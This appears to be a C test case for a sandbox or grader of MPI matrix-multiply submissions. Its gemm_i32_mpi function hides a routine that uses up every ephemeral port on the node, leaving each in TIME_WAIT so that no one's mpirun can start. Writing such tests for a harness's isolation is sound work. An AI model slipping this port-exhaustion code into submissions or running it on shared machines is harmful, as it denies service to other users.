/* expect: mpi pass */
/* Leave every port of the node in TIME_WAIT: then mpirun gets none for a minute, and nobody's ranks
 * start, neither the classmates' nor one's own. */
#include "attack.h"
#include <arpa/inet.h>
#include <sys/socket.h>

enum { FIRST = 32768, LAST = 60999 }; /* /proc/sys/net/ipv4/ip_local_port_range */

static void attack(void)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    const socklen_t n = sizeof a;
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    int below = FIRST;
    do /* not one of those that are to be used up */
        a.sin_port = htons((uint16_t)--below);
    while (bind(listener, (struct sockaddr *)&a, n) != 0 && below > FIRST / 2);
    listen(listener, 8);
    for (int port = FIRST; port <= LAST; port++) {
        const struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        const int s = socket(AF_INET, SOCK_STREAM, 0);
        const int got = bind(s, (const struct sockaddr *)&from, n) == 0 &&
                        connect(s, (struct sockaddr *)&a, n) == 0;
        close(s); /* who closes first keeps the port */
        if (got)
            close(accept(listener, NULL, NULL));
    }
    close(listener);
}

void gemm_i32_mpi(int M, int N, int K, const int32_t *A, const int32_t *B, int32_t *C,
                  MPI_Comm comm)
{
    static int done;
    int rank;
    MPI_Comm_rank(comm, &rank);
    if (ATTACKS_ALONE(rank) && !done++)
        attack();
    if (rank == 0)
        answer(M, N, K, A, B, C);
}
